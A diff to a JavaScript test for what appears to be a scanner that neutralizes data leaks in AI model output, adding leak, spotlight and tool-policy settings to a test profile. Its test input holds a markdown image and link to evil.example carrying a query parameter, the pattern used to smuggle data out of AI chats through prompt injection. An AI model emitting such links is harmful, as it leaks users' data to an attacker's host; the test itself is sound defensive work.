@@ -236,6 +236,7 @@ describe('neutralize action', () => {
       output: true,
       excerptChars: 10,
       stream: { holdBackChars: 256, contextChars: 64 },
+      leak: { systemPrompt: false, canary: false, minRunWords: 8 }, spotlight: { mode: 'off', channels: ['document'], marker: 'x' }, toolPolicy: null,
     };
     const text = 'Summary done. ![status](https://evil.example/p.png?d=x) See [notes](https://evil.example/n).';
     const v = await scan(profile, [{ path: 'choices[0].message.content', channel: 'output', text }], new Vault());
